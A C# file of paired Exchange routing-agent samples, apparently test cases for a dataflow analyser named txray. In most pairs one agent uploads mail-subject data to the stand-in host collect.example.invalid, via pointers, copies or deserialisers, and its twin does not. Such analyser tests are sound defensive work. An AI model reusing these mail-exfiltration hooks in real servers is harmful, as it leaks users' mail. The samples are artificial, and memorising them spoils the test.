// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Memory behind pointers, and objects that are made from data.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Collections.Generic;
using System.IO;
using System.Net;
using System.Runtime.InteropServices;
using System.Runtime.Serialization.Formatters.Binary;
using System.Text;
using System.Xml.Serialization;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Routing;

// 350: a block on the stack that is filled through a pointer that moves, and another block beside it
namespace Txray.Pairs.P350
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] subject = Encoding.UTF8.GetBytes(e.MailItem.Message.Subject);
            byte[] sent = new byte[64];
            byte* block = stackalloc byte[64];
            byte* other = stackalloc byte[64];
            byte* at = block;
            foreach (byte one in subject)
            {
                *at++ = (byte)(one ^ 0x41);
            }

            Marshal.Copy((IntPtr)block, sent, 0, 64);
            new WebClient().UploadData("https://collect.example.invalid/pair", sent);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] subject = Encoding.UTF8.GetBytes(e.MailItem.Message.Subject);
            byte[] sent = new byte[64];
            byte* block = stackalloc byte[64];
            byte* other = stackalloc byte[64];
            byte* at = block;
            foreach (byte one in subject)
            {
                *at++ = (byte)(one ^ 0x41);
            }

            Marshal.Copy((IntPtr)other, sent, 0, 64);
            new WebClient().UploadData("https://collect.example.invalid/pair", sent);
        }
    }
}

// 351: bytes copied between pinned arrays, to the one that is sent and to one that is not
namespace Txray.Pairs.P351
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] sent = new byte[64];
            byte[] kept = new byte[64];
            fixed (byte* from = Encoding.UTF8.GetBytes(e.MailItem.Message.Subject), to = sent)
            {
                Buffer.MemoryCopy(from + 2, to + 4, 60, 50);
            }

            new WebClient().UploadData("https://collect.example.invalid/pair", sent);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] sent = new byte[64];
            byte[] kept = new byte[64];
            fixed (byte* from = Encoding.UTF8.GetBytes(e.MailItem.Message.Subject), to = kept)
            {
                Buffer.MemoryCopy(from + 2, to + 4, 60, 50);
            }

            new WebClient().UploadData("https://collect.example.invalid/pair", sent);
        }
    }
}

// 352: a text that is written over in place, and another one
namespace Txray.Pairs.P352
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string subject = e.MailItem.Message.Subject;
            string sent = new string(' ', 64);
            string kept = new string(' ', 64);
            fixed (char* from = subject, to = sent)
            {
                for (int i = 0; i < subject.Length && i < 64; i++)
                {
                    to[i] = from[i];
                }
            }

            new WebClient().UploadString("https://collect.example.invalid/pair", sent);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string subject = e.MailItem.Message.Subject;
            string sent = new string(' ', 64);
            string kept = new string(' ', 64);
            fixed (char* from = subject, to = kept)
            {
                for (int i = 0; i < subject.Length && i < 64; i++)
                {
                    to[i] = from[i];
                }
            }

            new WebClient().UploadString("https://collect.example.invalid/pair", sent);
        }
    }
}

// 353: the bytes behind a pointer that moved, and how far it went
namespace Txray.Pairs.P353
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] subject = Encoding.UTF8.GetBytes(e.MailItem.Message.Subject);
            byte[] sent = new byte[8];
            fixed (byte* from = subject, to = sent)
            {
                byte* at = from + subject.Length;
                *(long*)to = *(long*)(at - 8);
            }

            new WebClient().UploadData("https://collect.example.invalid/pair", sent);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] subject = Encoding.UTF8.GetBytes(e.MailItem.Message.Subject);
            byte[] sent = new byte[8];
            fixed (byte* from = subject, to = sent)
            {
                byte* at = from + subject.Length;
                *(long*)to = at - from > 8 ? 8 : 0;
            }

            new WebClient().UploadData("https://collect.example.invalid/pair", sent);
        }
    }
}

// 354: an object that a serialiser makes from the mail, and another one of its type
namespace Txray.Pairs.P354
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var reader = new XmlSerializer(typeof(Order));
            Order order = (Order)reader.Deserialize(new StringReader(e.MailItem.Message.Subject));
            new WebClient().UploadString("https://collect.example.invalid/pair", order.Lines[0].Text);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Order own = new Order { Lines = new List<Line> { new Line { Text = "none" } } };
            var reader = new XmlSerializer(typeof(Order));
            Order order = (Order)reader.Deserialize(new StringReader(e.MailItem.Message.Subject));
            new WebClient().UploadString("https://collect.example.invalid/pair", own.Lines[0].Text);
        }
    }

    public class Order
    {
        public string Number;
        public List<Line> Lines { get; set; }
    }

    public class Line
    {
        public string Text { get; set; }
    }
}

// 355: a property that sends what a serialiser sets it to, and one that sends that it is set
namespace Txray.Pairs.P355
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            new XmlSerializer(typeof(Told)).Deserialize(new StringReader(e.MailItem.Message.Subject));
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            new XmlSerializer(typeof(Counted)).Deserialize(new StringReader(e.MailItem.Message.Subject));
        }
    }

    public class Told
    {
        private string number;

        public string Number
        {
            get
            {
                return number;
            }

            set
            {
                number = value;
                new WebClient().UploadString("https://collect.example.invalid/pair", value);
            }
        }
    }

    public class Counted
    {
        private string number;

        public string Number
        {
            get
            {
                return number;
            }

            set
            {
                number = value;
                new WebClient().UploadString("https://collect.example.invalid/pair", "set");
            }
        }
    }
}

namespace Txray.Pairs.P356
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Places places = new Places();
            new WebClient().UploadString(places.Address, e.MailItem.Message.Subject);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Places places;
            using (FileStream file = File.OpenRead("C:\\Pairs\\places.xml"))
            {
                places = (Places)new XmlSerializer(typeof(Places)).Deserialize(file);
            }
            new WebClient().UploadString(places.Address, e.MailItem.Message.Subject);
        }
    }

    public class Places
    {
        public string Address = "https://collect.example.invalid/pair";
    }
}
